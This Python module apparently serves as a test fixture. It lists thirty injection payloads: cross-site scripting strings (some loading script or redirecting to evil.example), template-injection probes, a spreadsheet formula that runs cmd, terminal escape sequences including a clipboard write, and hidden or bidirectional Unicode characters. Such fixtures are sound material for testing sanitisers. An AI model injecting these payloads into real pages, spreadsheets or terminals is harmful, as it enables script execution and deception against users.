"""Texts that try to be more than text: markup, scripts, styles, templates, escape sequences, hidden characters."""

from __future__ import annotations

PAYLOADS = (
    "<script>document.title='owned'</script>",
    "</p></div></main><script src=https://evil.example/x.js></script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg/onload=document.title='owned'>",
    "\"><iframe srcdoc='<script>parent.document.title=1</script>'>",
    "' onmouseover='document.title=1' x='",
    "</style><style>body{display:none}</style>",
    "</title><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<a href=javascript:document.title=1>the link</a>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<form action=https://evil.example><input name=q autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>more</summary></details>",
    "<!-- --><![CDATA[<script>alert(1)</script>]]>",
    "{{ config }} {% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt; &amp;lt; &#60;script&#62; &#x3c;b&#x3e;",
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example>",
    "| a | b |\n|---|---|\n# heading\n> quote\n- list\n1. one",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\x1b[2J\x1b[H\x1b[31mred\x1b[0m plain",
    "\x1b]0;owned\x07title \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;b3duZWQ=\x07clipboard",
    "\x9b31mC1\x9d0;owned\x9c text",
    "never closed \x1b]0;and the rest stays",
    "bell\x07 back\x08\x08 null\x00 form\x0c del\x7f",
    "right\u202eleft\u202c \u2066isolate\u2069 \u200emark",
    "zero\u200bwidth\u2060joined\ufeff soft\u00adhyphen",
    "tags \U000e0001\U000e0068\U000e0069 end",
    "marks a" + "\u0301" * 40 + " z",
)
"""Thirty of them."""
